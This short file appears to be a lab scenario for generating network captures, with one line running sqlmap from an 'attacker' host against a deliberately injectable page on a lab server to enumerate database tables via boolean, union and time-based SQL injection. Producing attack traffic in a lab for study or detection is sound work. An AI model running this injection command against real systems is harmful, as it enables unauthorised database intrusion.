# SQL injection by sqlmap on a page that really is injectable: tests, union query, table names.
# packages: sqlmap python3 nginx-light
# packets: 1100
LAB_SECONDS=40 from attacker sqlmap -u "http://$SERVER/app/tin?id=1" --batch --flush-session --dbms sqlite --technique BUT --time-sec 1 --tables --output-dir "$LAB_DIR/sqlmap" --disable-coloring
